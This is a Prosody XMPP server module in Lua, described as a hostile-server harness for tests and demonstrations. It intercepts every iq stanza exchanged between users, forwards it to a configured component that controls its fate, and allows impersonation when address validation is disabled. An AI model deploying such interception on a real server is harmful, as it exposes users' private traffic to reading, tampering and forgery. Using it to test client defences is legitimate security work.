-- A server that attacks its users: as long as the component that mitm_component names is connected, every iq from one
-- person to another goes to it instead (XEP-0297), and it says what becomes of it. With validate_from_addresses = false it
-- may speak in anybody's name. For tests and demonstrations only.

local st = require "util.stanza";

local FIRST = 10000; -- hooks of a higher priority run earlier

local mitm = assert(module:get_option_string("mitm_component"), "mitm_component is not set");

module:hook("pre-iq/full", function (event)
	if not prosody.hosts[mitm].modules.component.connected then
		return;
	end
	local stanza = st.clone(event.stanza);
	stanza.attr.xmlns = "jabber:client";
	local wrapped = st.message({ from = module.host, to = mitm }):tag("forwarded", { xmlns = "urn:xmpp:forward:0" });
	module:send(wrapped:add_child(stanza));
	return true;
end, FIRST);
